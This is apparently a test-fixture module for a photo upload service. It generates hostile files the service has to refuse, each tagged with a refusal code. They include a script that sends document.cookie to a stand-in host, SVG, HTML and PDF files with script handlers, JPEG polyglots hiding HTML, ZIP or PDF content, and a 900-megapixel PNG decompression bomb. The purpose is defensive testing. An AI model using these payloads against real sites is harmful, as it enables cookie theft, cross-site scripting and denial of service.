import { randomBytes } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { drawPhoto } from './photos'

const SCRIPT = '<script>fetch("https://example.invalid/"+document.cookie)</script>'
/** What must never come back out of the service, whatever it was wrapped in. */
export const hidden = [SCRIPT, '<svg', 'PK\u0003\u0004', '%PDF', 'onload=', 'example.invalid']

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** A one-bit PNG of this many pixels a side, all black: next to nothing to send, much to unpack. */
export function blackPng(side: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 9 })
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const zip = () => {
  const name = Buffer.from('a.html')
  const header = Buffer.alloc(30)
  header.writeUInt32LE(0x04034b50, 0)
  header.writeUInt16LE(name.length, 26)
  header.writeUInt32LE(SCRIPT.length, 18)
  return Buffer.concat([header, name, Buffer.from(SCRIPT)])
}

/** A JPEG with a comment in front and something else behind, both of which other programs may take for the file. */
export async function polyglot(behind: Buffer): Promise<Buffer> {
  const jpeg = await drawPhoto({ width: 120, height: 90 })
  const comment = Buffer.from(`--><html><body onload="alert(1)">${SCRIPT}</body></html><!--`)
  const length = Buffer.alloc(2)
  length.writeUInt16BE(comment.length + 2)
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, jpeg.subarray(2), behind])
}

const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const ftyp = (brand: string, rest: Buffer) =>
  Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from(`ftyp${brand}\0\0\0\0${brand}mif1`, 'latin1'), rest])

type Hostile = { name: string; bytes: Buffer; refusal: string }

/** Everything that must be refused, with the reason that the person reads. */
export async function hostileFiles(): Promise<Hostile[]> {
  const photo = await drawPhoto({ width: 400, height: 300 })
  const png = await drawPhoto({ width: 400, height: 300, format: 'png' })
  const webp = await drawPhoto({ width: 400, height: 300, format: 'webp' })
  const gif = await sharp(photo).gif().toBuffer()
  const tiff = await sharp(photo).tiff().toBuffer()
  const unknown = (name: string, bytes: Buffer | string) => ({
    name,
    bytes: Buffer.from(bytes),
    refusal: 'photo_type_unknown',
  })
  const damaged = (name: string, bytes: Buffer) => ({ name, bytes, refusal: 'photo_damaged' })
  const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2))
  return [
    unknown('an SVG with a script', svg),
    unknown('an HTML page', `<!doctype html>${SCRIPT}`),
    unknown('a GIF', gif),
    unknown('a TIFF', tiff),
    unknown('a PDF', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`),
    unknown('a ZIP', zip()),
    unknown('an AVIF', ftyp('avif', randomBytes(200))),
    unknown('a video', ftyp('isom', randomBytes(200))),
    unknown('a script behind a few bytes of a JPEG', `\xff\xd8${SCRIPT}`),
    unknown('an SVG behind blanks', `${' '.repeat(40)}${svg}`),
    damaged('nothing at all', Buffer.alloc(0)),
    damaged('half a JPEG', half(photo)),
    damaged('half a PNG', half(png)),
    damaged('half a WebP', half(webp)),
    damaged('the first bytes of a JPEG and noise', Buffer.concat([photo.subarray(0, 20), randomBytes(2000)])),
    damaged('a page that says it is a PNG', Buffer.concat([png.subarray(0, 8), Buffer.from(SCRIPT)])),
    damaged('a RIFF that is no WebP inside', Buffer.concat([webp.subarray(0, 12), randomBytes(500)])),
    { name: 'a HEIC that is none', bytes: ftyp('heic', randomBytes(900)), refusal: 'photo_heic' },
    { name: 'a bomb of 900 million pixels', bytes: blackPng(30_000), refusal: 'photo_too_many_pixels' },
  ]
}

export const polyglots = async (): Promise<{ name: string; bytes: Buffer }[]> => [
  { name: 'JPEG and HTML', bytes: await polyglot(Buffer.from(`<html>${SCRIPT}`)) },
  { name: 'JPEG and ZIP', bytes: await polyglot(zip()) },
  { name: 'JPEG and PDF', bytes: await polyglot(Buffer.from('%PDF-1.7 endobj')) },
  { name: 'JPEG and SVG', bytes: await polyglot(Buffer.from(svg)) },
]
